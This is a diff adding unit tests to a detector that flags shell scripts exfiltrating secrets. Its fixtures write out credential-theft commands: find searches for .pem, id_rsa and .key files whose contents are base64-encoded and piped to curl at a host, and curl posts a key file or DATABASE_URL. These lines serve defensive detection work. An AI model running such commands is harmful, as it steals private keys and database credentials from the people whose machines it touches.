@@ -391,6 +391,27 @@ describe('keys that leave by a program', () => {
     expect(await judged({ 'a.sh': 'curl -d "k=$(JWT_SECRET)" https://c.test/\n' })).toEqual(['sends-secrets a.sh:1']);
   });
 
+  it('are found where a search for them is sent, whatever it finds', async () => {
+    const search = 'find / -name "*.pem" -o -name "id_rsa*" 2>/dev/null';
+    const send = `curl -d @- ${host}`;
+    expect(await judged({ 'a.sh': `${search} | while read f; do\n  cat "$f" | base64\ndone | ${send}\n` })).toContain(
+      'sends-credentials a.sh:3',
+    );
+    const kept = ['all="$(find ~ -name "*.key")"', 'for f in $(echo "$all" | sort -u); do', '  text=$(cat "$f")'];
+    expect(
+      await judged({ 'a.sh': [...kept, `  echo "$(echo -n "$text" | base64 -w0)" | ${send}`, 'done'].join('\n') }),
+    ).toContain('sends-credentials a.sh:4');
+    expect(await judged({ 'a.sh': `find . -name "*.md" | while read f; do cat "$f"; done | ${send}\n` })).toEqual([]);
+  });
+
+  it('are found as a file that is sent whole, and as the login of a database', async () => {
+    expect(await judged({ 'a.sh': `curl --data-binary @"$HOME/.lamp/.store-key" ${host}\n` })).toEqual([
+      'sends-secrets a.sh:1',
+    ]);
+    expect(await judged({ 'a.sh': `curl -d "key=$(cat ~/.lamp/.store-key)" ${host}\n` })).toEqual([]);
+    expect(await judged({ 'a.sh': `curl -d "$DATABASE_URL" ${host}\n` })).toEqual(['sends-secrets a.sh:1']);
+  });
+
   it('are no finding to their own service', async () => {
     expect(
       await sent('requests.post("https://api.sendgrid.com/", json={"k": os.environ["SENDGRID_API_KEY"]})'),
